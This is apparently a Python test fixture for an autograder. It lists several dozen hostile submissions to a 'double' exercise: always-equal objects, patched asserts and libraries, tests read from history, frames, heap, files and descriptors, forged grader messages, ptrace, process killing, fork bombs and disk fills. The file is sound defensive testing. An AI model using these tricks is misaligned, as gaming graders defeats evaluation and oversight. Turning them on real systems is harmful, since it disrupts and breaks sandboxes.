"""Submissions that try to earn points by other means than doubling a number.

Each is what a student could write into the answer `double` of lectures/
01_tiny.py, or into a cell above it; its `halve` is right. None may earn a
point for `double`; all but those that say otherwise keep `halve`'s. They bound
themselves: a fork bomb stops after 200 children, a memory hog after 4 GB, and
nothing leaves the machine.
"""

from dataclasses import dataclass


@dataclass(frozen=True)
class Attack:
    """One hostile answer.

    Args:
        name: What tells it from the others.
        double: The answer cell; the test calls `double(3)` and
            `double(np.arange(4))`.
        above: A cell of the student's own, above the answer.
        halve: What the honest answer beside it must earn, of 1.5.
    """

    name: str
    double: str
    above: str = ""
    halve: float = 1.5


def returns(value: str, before: str = "") -> str:
    """An answer that returns `value` whatever is asked."""
    return f"{before}\ndef double(x):\n    return {value}\n"


WRONG = returns("None")

# What a value says of itself.
VALUES = [
    Attack(
        "equal-to-everything",
        returns(
            "Equal()",
            "class Equal:\n"
            "    def __eq__(self, other): return True\n"
            "    def __bool__(self): return True\n",
        ),
    ),
    Attack(
        "an-int-equal-to-everything",
        returns(
            "Equal(1)",
            "class Equal(int):\n"
            "    def __eq__(self, other): return True\n"
            "    __hash__ = None\n",
        ),
    ),
    Attack(
        "a-float-equal-to-everything",
        returns(
            "Equal(1)",
            "class Equal(float):\n"
            "    def __eq__(self, other): return True\n"
            "    def __float__(self): return 6.0\n",
        ),
    ),
    Attack(
        "an-array-equal-to-everything",
        returns(
            "np.zeros(4).view(Equal)",
            "class Equal(np.ndarray):\n"
            "    def __eq__(self, other): return np.ones(4, bool)\n",
        ),
    ),
    Attack(
        "a-list-equal-to-everything",
        returns(
            "Equal()",
            "class Equal(list):\n    def __eq__(self, other): return True\n",
        ),
    ),
    Attack(
        "lies-as-an-array",
        returns(
            "Lies()",
            "class Lies:\n"
            "    shape, dtype = (4,), np.dtype(int)\n"
            "    def __array__(self, *a, **k): return np.array([0, 2, 4, 6])\n"
            "    def __eq__(self, other): return True\n"
            "    def __len__(self): return 4\n"
            "    def __iter__(self): return iter([True] * 4)\n",
        ),
    ),
    Attack(
        "lies-about-its-class",
        returns(
            "Lies()",
            "class Lies:\n"
            "    __class__ = property(lambda self: int)\n"
            "    def __eq__(self, other): return True\n"
            "    def __index__(self): return 6\n",
        ),
    ),
    Attack(
        "a-length-without-end",
        returns(
            "Long()",
            "class Long(list):\n"
            "    def __len__(self): return 2**62\n"
            "    def __iter__(self):\n"
            "        while True: yield 6\n",
        ),
    ),
    Attack(
        "contains-itself",
        returns("cycle", "cycle = []\ncycle.append(cycle)\n"),
    ),
    Attack(
        "nested-too-deep",
        returns("deep", "deep = []\nfor _ in range(100_000): deep = [deep]\n"),
    ),
    Attack("an-array-too-large", returns("np.zeros(2**36, np.int8)")),
    Attack(
        "a-generator-without-end",
        returns("ones()", "def ones():\n    while True: yield 1\n"),
    ),
    Attack(
        "runs-code-when-unpickled",
        returns(
            "Pickled()",
            "class Pickled:\n    def __reduce__(self): return (eval, ('6',))\n",
        ),
    ),
    Attack(
        "attributes-that-take-for-ever",
        returns(
            "Slow()",
            "import time\n"
            "class Slow:\n"
            "    def __getattribute__(self, name): time.sleep(600)\n",
        ),
    ),
]

# Exceptions that could be taken for a test that passed.
EXCEPTIONS = [
    Attack(
        f"raises-{error}",
        f"def double(x):\n    raise {error}('fine')\n",
    )
    for error in (
        "StopIteration",
        "AssertionError",
        "SystemExit",
        "KeyboardInterrupt",
        "GeneratorExit",
        "NotImplementedError",
    )
]

# The machinery around the tests.
MACHINERY = [
    Attack(
        "drops-asserts",
        WRONG,
        "import ast\n"
        "class Drop(ast.NodeTransformer):\n"
        "    def visit_Assert(self, node): return ast.Pass()\n"
        "get_ipython().ast_transformers.append(Drop())\n",
    ),
    Attack(
        "replaces-run-cell",
        WRONG,
        "shell = get_ipython()\n"
        "real = shell.run_cell\n"
        "def run_cell(source, *a, **k):\n"
        "    return real('pass' if 'assert' in source else source, *a, **k)\n"
        "shell.run_cell = run_cell\n"
        "type(shell).run_cell = lambda self, *a, **k: run_cell(*a, **k)\n",
    ),
    Attack(
        "reads-the-history",
        "import re\n"
        "def double(x):\n"
        "    shell = get_ipython()\n"
        "    text = str(shell.user_ns.get('In')) + str(shell.user_ns)\n"
        "    found = re.search(r'double\\(3\\) == (\\d+)', text)\n"
        "    return int(found[1])\n",
    ),
    Attack(
        "reads-the-frames",
        "import re, sys, linecache\n"
        "def double(x):\n"
        "    frame, text = sys._getframe(), ''\n"
        "    while frame:\n"
        "        text += str(frame.f_globals)[:10**6] + str(frame.f_locals)\n"
        "        frame = frame.f_back\n"
        "    text += str(linecache.cache)[:10**6]\n"
        "    return int(re.search(r'double\\(3\\) == (\\d+)', text)[1])\n",
    ),
    Attack(
        "reads-the-heap",
        "import gc, re\n"
        "def double(x):\n"
        "    for thing in gc.get_objects():\n"
        "        if type(thing) in (list, tuple, dict):\n"
        "            text = str(thing)[:10**5]\n"
        "            if found := re.search(r'double\\(3\\) == (\\d)', text):\n"
        "                return int(found[1])\n",
    ),
    Attack(
        "traces-the-tests",
        WRONG,
        "import sys, threading\n"
        "def trace(frame, event, value):\n"
        "    if 'assert' in str(frame.f_code.co_names): frame.f_lineno += 1\n"
        "    return trace\n"
        "sys.settrace(trace); threading.settrace(trace)\n",
    ),
    Attack(
        "patches-numpy",
        returns("np.zeros(4)"),
        "import numpy as np\n"
        "np.all = np.allclose = np.array_equal = lambda *a, **k: True\n"
        "np.ndarray = object\n",
    ),
    Attack(
        "patches-keras",
        WRONG,
        "import keras\n"
        "keras.ops.all = lambda *a, **k: True\n"
        "keras.utils.set_random_seed = None\n",
        halve=0,
    ),
    Attack(
        "patches-json",
        WRONG,
        "import json\n"
        "json.dumps = lambda *a, **k: '6'\n"
        "json.loads = lambda *a, **k: 6\n",
        halve=0,
    ),
    Attack(
        "patches-builtins",
        WRONG,
        "import builtins\n"
        "builtins.AssertionError = type('Nothing', (Exception,), {})\n"
        "builtins.all = builtins.any = lambda *a: True\n"
        "builtins.isinstance = lambda *a: True\n",
        halve=0,
    ),
    Attack(
        "hooks-imports",
        WRONG,
        "import sys\n"
        "class Hook:\n"
        "    def find_spec(self, name, path, target=None):\n"
        "        raise SystemExit(name)\n"
        "sys.meta_path.insert(0, Hook())\n"
        "sys.modules['numpy'] = None\n",
        halve=0,
    ),
    Attack(
        "replaces-the-checks-thread",
        WRONG,
        "import threading, sys\n"
        "for module in list(sys.modules.values()):\n"
        "    if 'student_end' in getattr(module, '__name__', ''):\n"
        "        for name, value in list(vars(module).items()):\n"
        "            if isinstance(value, type):\n"
        "                for key in list(vars(value)):\n"
        "                    if not key.startswith('__'):\n"
        "                        setattr(value, key, lambda *a, **k: 6)\n",
        halve=0,
    ),
    Attack(
        "shows-a-score",
        WRONG,
        "import sys\n"
        "from IPython.display import display\n"
        "display(2.0); print(2.0, file=sys.__stdout__)\n"
        "get_ipython().displayhook(2.0)\n"
        "2.0",
    ),
    Attack(
        "names-that-look-alike",
        "def d\u043euble(x): return 2 * x\n"  # a Cyrillic letter
        "\U0001d41d\U0001d428\U0001d42e\U0001d41b\U0001d425\U0001d41e = None\n",
    ),
    Attack("deletes-its-name", "def double(x): return 2 * x\ndel double\n"),
    Attack(
        "changes-after-the-first-call",
        "calls = 0\n"
        "def double(x):\n"
        "    global calls\n"
        "    calls += 1\n"
        "    return 6 if calls == 1 else x\n",
    ),
]

# The descriptors that the process has.
FORGE = """
import json, os, socket, struct, threading
def forge():
    done = json.dumps({"type": "done", "count": 3, "failed": False})
    texts = [b"\\xff" * 64, struct.pack(">IQ", 2**31, 2**63),
             struct.pack(">IQ", 13, 0) + b'["value",true]', done.encode(),
             struct.pack(">I", len(done)) + done.encode()]
    for number in range(3, 40):
        for text in texts:
            try: os.write(number, text)
            except OSError: pass
"""
DESCRIPTORS = [
    Attack("forges-messages-at-once", WRONG, FORGE + "forge()\n", halve=0),
    Attack(
        "forges-messages-in-a-call",
        "def double(x):\n    forge()\n    return 6\n",
        FORGE,
        halve=0,
    ),
    Attack(
        "forges-messages-for-ever",
        WRONG,
        FORGE + "def again():\n"
        "    for _ in range(2000): forge()\n"
        "threading.Thread(target=again, daemon=True).start()\n",
        halve=0,
    ),
    Attack(
        "closes-everything",
        "import os\ndef double(x):\n    os.closerange(3, 256)\n    return 6\n",
    ),
    Attack(
        "reads-its-descriptors",
        "import os, re\n"
        "def double(x):\n"
        "    for number in range(3, 64):\n"
        "        try:\n"
        "            os.set_blocking(number, False)\n"
        "            text = os.read(number, 10**6).decode('latin-1')\n"
        "        except OSError: continue\n"
        "        if found := re.search(r'double\\(3\\) == (\\d)', text):\n"
        "            return int(found[1])\n",
        halve=0,
    ),
]

# The machine: files, processes, network.
FIND = """
import os, re
def find(pattern, roots=("/",)):
    for root in roots:
        for folder, _, files in os.walk(root):
            if folder.startswith(("/proc", "/sys", "/usr")): continue
            for name in files:
                if not name.endswith((".ipynb", ".db", ".py", ".md")): continue
                try: text = open(os.path.join(folder, name), "rb").read(10**6)
                except OSError: continue
                if found := re.search(pattern, text):
                    return int(found[1])
"""
MACHINE = [
    Attack(
        "looks-for-the-tests",
        FIND + returns(r"find(rb'assert double\(3\) == (\d)')"),
    ),
    Attack(
        "looks-through-process-1",
        FIND
        + returns(
            r"find(rb'assert double\(3\) == (\d)', "
            "[f'/proc/{n}/root' for n in os.listdir('/proc') if n.isdigit()]"
            " + [f'/proc/{n}/cwd' for n in os.listdir('/proc')"
            " if n.isdigit()])"
        ),
    ),
    Attack(
        "reads-environments-and-memory",
        "import glob, re\n"
        "def double(x):\n"
        "    for path in glob.glob('/proc/[0-9]*/environ'):\n"
        "        try: text = open(path).read()\n"
        "        except OSError: continue\n"
        "        if 'ATTACK_SECRET' in text: return 6\n"
        "    for path in glob.glob('/proc/[0-9]*/mem'):\n"
        "        try: open(path, 'r+b'); other = path.split('/')[2]\n"
        "        except OSError: continue\n"
        "        if other not in ('self', str(__import__('os').getpid())):\n"
        "            return 6\n",
    ),
    Attack(
        "traces-its-parent",
        "import ctypes, os\n"
        "def double(x):\n"
        "    libc = ctypes.CDLL(None)\n"
        "    for pid in (1, 2, os.getppid()):\n"
        "        if libc.ptrace(16, pid, 0, 0) == 0: return 6\n",
    ),
    Attack(
        "kills-all-it-can",
        "import os, signal\n"
        "def double(x):\n"
        "    for pid in (os.getppid(), 1, 2, -1):\n"
        "        try: os.kill(pid, signal.SIGKILL)\n"
        "        except OSError: pass\n"
        "    return 6\n",
    ),
    Attack(
        "connects-and-listens",
        "import socket\n"
        "def double(x):\n"
        "    server = socket.socket(); server.bind(('127.0.0.1', 0))\n"
        "    server.listen()\n"
        "    for port in (22, 80, 8888):\n"
        "        try: socket.create_connection(('127.0.0.1', port), 0.2)\n"
        "        except OSError: continue\n"
        "        return 6\n",
    ),
    Attack(
        "leaves-links-and-pipes",
        WRONG,
        "import os\n"
        "for name in ('tiny.ipynb', '01_tiny.ipynb', 'gradebook.db'):\n"
        "    try: os.symlink('/etc/passwd', name)\n"
        "    except OSError: pass\n"
        "    try: os.mkfifo(name + '.fifo')\n"
        "    except OSError: pass\n",
    ),
    Attack(
        "writes-into-the-library",
        WRONG,
        "import autograder, numpy, os, sys\n"
        "for module in (autograder, numpy, os):\n"
        "    folder = os.path.dirname(module.__file__)\n"
        "    for name in ('sitecustomize.py', 'verdict.py', '__init__.py'):\n"
        "        try: open(os.path.join(folder, name), 'a').write('#x')\n"
        "        except OSError: pass\n",
    ),
    Attack(
        "mounts-and-unshares",
        "import ctypes, os\n"
        "def double(x):\n"
        "    libc = ctypes.CDLL(None)\n"
        "    if libc.unshare(0x10000000) == 0: return 6\n"
        "    if libc.mount(b'x', b'/tmp', b'tmpfs', 0, None) == 0: return 6\n"
        "    if libc.chroot(b'/tmp') == 0: return 6\n",
    ),
    Attack(
        "fork-bomb",
        "import os, time\n"
        "def double(x):\n"
        "    for _ in range(200):\n"
        "        try:\n"
        "            if os.fork() == 0:\n"
        "                time.sleep(60); os._exit(0)\n"
        "        except OSError: break\n"
        "    return 6\n",
    ),
    Attack(
        "memory-hog",
        "def double(x):\n"
        "    kept = []\n"
        "    for _ in range(64):\n"
        "        kept.append(bytearray(b'x') * (64 << 20))\n"
        "    return 6\n",
    ),
    Attack(
        "disk-fill",
        "def double(x):\n"
        "    for number in range(16):\n"
        "        with open(f'/tmp/fill{number}', 'wb') as file:\n"
        "            for _ in range(64): file.write(bytes(4 << 20))\n"
        "    return 6\n",
    ),
    Attack(
        "process-left-behind",
        WRONG,
        "import subprocess, sys\n"
        "subprocess.Popen([sys.executable, '-c',\n"
        "    'import time; attack_left_behind = time.sleep(300)'],\n"
        "    start_new_session=True)\n",
    ),
    Attack(
        "exits-in-the-cell",
        "import os\nos._exit(0)\n",
    ),
    Attack("exits-in-a-call", "import os\ndef double(x):\n    os._exit(0)\n"),
    Attack("aborts-in-a-call", "import os\ndef double(x):\n    os.abort()\n"),
    Attack(
        "crashes-in-a-call",
        "import ctypes\ndef double(x):\n    ctypes.string_at(0)\n",
    ),
    Attack(
        "recurses-for-ever",
        "import sys\nsys.setrecursionlimit(10**9)\n"
        "def double(x):\n    return double(x)\n",
    ),
    Attack("loops-for-ever", "def double(x):\n    while True: pass\n"),
    Attack(
        "loops-and-ignores-signals",
        "import signal\nfor number in (2, 15):\n"
        "    signal.signal(number, signal.SIG_IGN)\nwhile True: pass\n",
    ),
    Attack(
        "waits-for-itself",
        "import threading\nlock = threading.Lock()\n"
        "def double(x):\n    with lock:\n        lock.acquire()\n",
    ),
    Attack(
        "floods-the-output",
        "def double(x):\n"
        "    for _ in range(100): print('x' * 10**6)\n"
        "    return 6\n",
        "for _ in range(100): print('x' * 10**6)\n",
    ),
    Attack(
        "thread-that-meddles",
        WRONG,
        "import threading, time\n"
        "def meddle():\n"
        "    for _ in range(300):\n"
        "        globals()['np'] = None; time.sleep(0.01)\n"
        "threading.Thread(target=meddle, daemon=True).start()\n",
    ),
    Attack(
        "at-exit",
        WRONG,
        "import atexit, time\natexit.register(time.sleep, 300)\n",
    ),
]

ATTACKS = [
    *VALUES,
    *EXCEPTIONS,
    *MACHINERY,
    *DESCRIPTORS,
    *MACHINE,
]
